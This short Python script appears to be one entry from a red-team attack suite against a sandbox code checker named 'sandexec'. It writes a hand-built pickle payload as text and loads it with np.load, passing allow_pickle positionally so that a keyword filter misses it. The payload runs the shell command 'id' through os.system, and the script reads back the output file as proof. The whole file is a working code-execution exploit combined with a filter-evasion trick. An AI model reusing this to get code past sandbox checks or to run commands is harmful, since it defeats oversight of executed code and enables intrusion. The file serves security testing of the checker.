# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 8 refused keyword given by position or as an attribute
# source: https://github.com/numpy/numpy/issues/12759 (np.load pickles) adapted: allow_pickle passed positionally
# family: data that is code: pickle loader enabled by a positional argument (np.load(file, mmap_mode, allow_pickle))
# goal: protocol-0 pickle written with np.savetxt, loaded by np.load -> os.system('id')
import json
import numpy as np
import pandas as pd

rows = np.array(["cos", "system", "(S'id > pwned_180'", "tR."])
np.savetxt("payload_180.pkl", rows, fmt="%s")
res = np.load("payload_180.pkl", None, True)
print(json.dumps({"unpickled": repr(res), "proof": pd.read_csv("pwned_180", header=None).iloc[0, 0]}))
